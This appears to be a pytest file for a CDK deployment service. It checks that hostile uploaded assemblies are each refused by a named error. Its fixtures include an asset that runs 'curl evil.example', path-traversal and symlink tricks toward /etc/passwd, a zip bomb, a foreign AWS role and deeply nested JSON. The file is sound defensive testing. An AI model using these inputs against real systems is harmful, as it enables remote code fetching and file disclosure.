"""What a workflow's artifact, or an upload, must not hold is refused by name, and nothing of it reaches AWS."""

import io
import json
import shutil
import socket
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from demo.github.workflow_runs import WorkflowRun
from service.database import make_engine, make_sessions
from service.models import AssemblyRow, Stage
from service.stages.assemblies import keep_upload
from service.stages.requests import request_assembly, request_deploy
from stagedoor.assembly.reader import read_assembly
from stagedoor.assembly.rewrite import rewrite_assembly
from stagedoor.errors import UserError
from stagedoor.naming import StageIdentity
from stagedoor.target import Target, Trust
from tests.service.stages import tiny_app
from tests.service.stages.conftest import House, make_house
from tests.service.stages.packed import artifact, zipped

CONFIG = '[apps.tiny]\nsynth = "actions"\n'
FOREIGN = "999999999999"


def manifest(**stack: Any) -> str:
    """Return the tiny app's manifest with other words about its one stack."""
    said = json.loads(tiny_app.files("one")["manifest.json"])
    said["artifacts"][tiny_app.STACK]["properties"] |= stack.pop("properties", {})
    said["artifacts"][tiny_app.STACK] |= stack
    said["artifacts"] |= stack.pop("more", {})
    return json.dumps(said)


def with_asset(source: dict[str, Any]) -> dict[str, str]:
    """Return a manifest whose stack needs an asset, and the asset's own manifest."""
    destination = {"bucketName": "b", "objectKey": "k"}
    assets = {"version": "48.0.0", "files": {"a" * 64: {"source": source, "destinations": {"here": destination}}}}
    more = {"Tiny.assets": {"type": "cdk:asset-manifest", "properties": {"file": "assets.json"}}}
    said = json.loads(manifest(dependencies=["Tiny.assets"]))
    said["artifacts"] |= more
    return {"manifest.json": json.dumps(said), "assets.json": json.dumps(assets)}


def twice(name: str) -> bytes:
    written = io.BytesIO(artifact())
    with zipfile.ZipFile(written, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(name, "{}")
    return written.getvalue()


FILES = {name: text for name, text in tiny_app.files("one").items() if name in {"manifest.json", "tiny.template.json"}}
FOLDER_ASSET = {"path": "asset.a", "packaging": "zip"}
TRICKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "a program as an asset": (
        lambda: artifact(files=with_asset({"executable": ["sh", "-c", "curl evil.example"]})),
        "executable-asset",
    ),
    "an asset outside": (
        lambda: artifact(files=with_asset({"path": "../../../etc", "packaging": "zip"})),
        "path-outside-assembly",
    ),
    "a template outside": (
        lambda: artifact(files={"manifest.json": manifest(properties={"templateFile": "/etc/passwd"})}),
        "path-outside-assembly",
    ),
    "a name outside": (lambda: artifact(files={"../outside": "x"}), "unsafe-assembly-archive"),
    "an absolute name": (lambda: artifact(files={"/etc/cron.d/x": "x"}), "unsafe-assembly-archive"),
    "a backslash": (lambda: artifact(files={"..\\outside": "x"}), "unsafe-assembly-archive"),
    "a link outside": (lambda: zipped(FILES, {"asset.a": "../../../etc"}), "unsafe-assembly-archive"),
    "an absolute link": (lambda: zipped(FILES, {"asset.a": "/etc"}), "unsafe-assembly-archive"),
    "a link that is no asset's": (lambda: zipped(FILES, {"link": "manifest.json"}), "link-outside-assembly"),
    "a template that is a link": (
        lambda: zipped({"manifest.json": FILES["manifest.json"], "x": "{}"}, {"tiny.template.json": "x"}),
        "link-outside-assembly",
    ),
    "a file through a link": (
        lambda: zipped({**FILES, "asset.a/passwd": "x"}, {"asset.a": "."}),
        "unsafe-assembly-archive",
    ),
    "a name twice": (lambda: twice("manifest.json"), "unsafe-assembly-archive"),
    "another account": (
        lambda: artifact(files={"manifest.json": manifest(environment=f"aws://{FOREIGN}/us-east-1")}),
        "foreign-environment",
    ),
    "another account's role": (
        lambda: artifact(
            files={"manifest.json": manifest(properties={"assumeRoleArn": f"arn:aws:iam::{FOREIGN}:role/admin"})}
        ),
        "foreign-role",
    ),
    "a name that is no stack's": (
        lambda: artifact(files={"manifest.json": manifest(properties={"stackName": "pr-2/../prod"})}),
        "malformed-assembly",
    ),
    "another stage's stack by its ARN": (
        lambda: artifact(
            files={
                "manifest.json": manifest(
                    properties={"stackName": "arn:aws:cloudformation:us-east-1:000000000001:stack/tiny-pr-2/1"}
                )
            }
        ),
        "malformed-assembly",
    ),
    "a template of 100 MB": (
        lambda: artifact(files={"tiny.template.json": '{"Resources": {}, "Description": "' + "x" * 100_000_000 + '"}'}),
        "malformed-assembly",
    ),
    "a bomb": (lambda: artifact(files={"asset.a": bytes(300_000_000)}), "unsafe-assembly-archive"),
    "JSON without end": (lambda: artifact(files={"manifest.json": "[" * 200_000}), "malformed-assembly"),
    "JSON in JSON": (
        lambda: artifact(files={"tiny.template.json": '{"a":' * 100_000 + "1" + "}" * 100_000}),
        "malformed-assembly",
    ),
    "no zip": (lambda: b"MZ" * 100, "unsafe-assembly-archive"),
    "no assembly": (lambda: zipped({"README.md": "hello"}), "no-assembly"),
}  # fmt: skip


@pytest.fixture(scope="module")
def place(tmp_path_factory, github, sqlite_template) -> Iterator[House]:
    """A house whose AWS is a closed port: whatever is asked of it is an error of ours, and none that has a name."""
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copy(sqlite_template, folder / "stagedoor.sqlite")
    engine = make_engine(f"sqlite:///{folder}/stagedoor.sqlite")
    house = make_house(github, make_sessions(engine), folder, "000000000001")
    github.push(house.repository, "main", {"stagedoor.toml": CONFIG})
    yield house
    engine.dispose()


@pytest.fixture(autouse=True)
def no_aws(monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    for name, value in {
        "AWS_ENDPOINT_URL": f"http://127.0.0.1:{port}",
        "AWS_ACCESS_KEY_ID": "000000000001",
        "AWS_SECRET_ACCESS_KEY": "x",
        "AWS_MAX_ATTEMPTS": "1",
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr("service.stages.teller.tell", lambda *_arguments: None)  # what is told is tested elsewhere


@pytest.fixture(scope="module")
def source(place: House) -> int:
    source = place.pull_request()
    place.hear()
    place.resolve(source)
    return source


BY_WORKFLOW = (
    "a program as an asset",
    "an asset outside",
    "a link outside",
    "another account",
    "another account's role",
    "a name that is no stack's",
    "a template of 100 MB",
    "a bomb",
    "JSON without end",
)
"""Those that go the whole way, each in a run of its own; that all are refused is seen on the shorter one."""


@pytest.fixture(scope="module")
def workflow(place: House, source: int) -> WorkflowRun:
    """A workflow's run that has ended well; what it left is put into it later."""
    run = place.github.begin_workflow(place.repository, str(place.source(source).head_sha))
    place.github.end_workflow(place.repository, run, {})
    return place.repository.workflow_runs[run]


@pytest.mark.parametrize("trick", BY_WORKFLOW)
def test_it_is_refused_by_name_on_its_way_from_a_workflow(
    place: House, source: int, workflow: WorkflowRun, trick: str
) -> None:
    make, expected = TRICKS[trick]
    workflow.artifacts.clear()
    workflow.leave(len(place.runs(source)) + 1, "stagedoor-assembly", make())
    with place.parts.sessions.begin() as session:
        request_deploy(session, place_stage(session), workflow.head_sha, actor="mona", again=True)
    place.reconcile(source)
    last = place.runs(source)[-1]
    error = last.error or {}
    assert (last.outcome, error.get("id")) == ("failed", expected), error
    assert error["what"]
    assert error["remedy"]
    assert not (place.parts.settings.data_dir / "work" / f"run-{last.id}").exists()


@pytest.mark.parametrize("trick", TRICKS)
def test_it_is_refused_by_name_as_an_upload_or_when_it_is_deployed(
    place: House, source: int, trick: str, tmp_path: Path
) -> None:
    make, expected = TRICKS[trick]
    file = tmp_path / "upload.zip"
    file.write_bytes(make())
    assert _refused(place, source, file) == expected


def _refused(place: House, source: int, upload: Path) -> str | None:
    """Return the id of the error by which an upload is refused, at once or when it is deployed."""
    try:
        assembly_id = keep_upload(place.parts, place.stage(source).app_id, Trust.PREVIEW, None, upload)
    except UserError as refused:
        return refused.id
    with place.parts.sessions.begin() as session:
        assembly = session.get_one(AssemblyRow, assembly_id)
        request_assembly(session, place_stage(session), assembly, actor="mona", cause="uploaded")
    place.reconcile(source)
    return (place.runs(source)[-1].error or {}).get("id")


def place_stage(session: Session) -> Stage:
    return session.scalars(select(Stage)).one()


def test_a_stack_called_as_anothers_gets_this_stages_own_prefix(place: House, source: int) -> None:
    """No name leads to another stage's stack: the prefix is put before whatever the app says."""
    other = place.stage(source).prefix.replace("pr-", "pr-9") + "-Tiny"
    folder = place.parts.settings.data_dir / "named"
    folder.mkdir(parents=True)
    (folder / "tiny.template.json").write_text(tiny_app.template("one"))
    (folder / "manifest.json").write_text(manifest(properties={"stackName": other}))
    identity = StageIdentity("tiny", "pr-1", "tiny-pr-1-abc", "local/1", "0" * 32)
    target = Target("local", "000000000001", "us-east-1", trust=Trust.PREVIEW)
    rewritten = rewrite_assembly(read_assembly(folder), identity, target, folder / "out", None)
    assert [stack.name for stack in rewritten.assembly.stacks] == [f"tiny-pr-1-abc-{other}"]
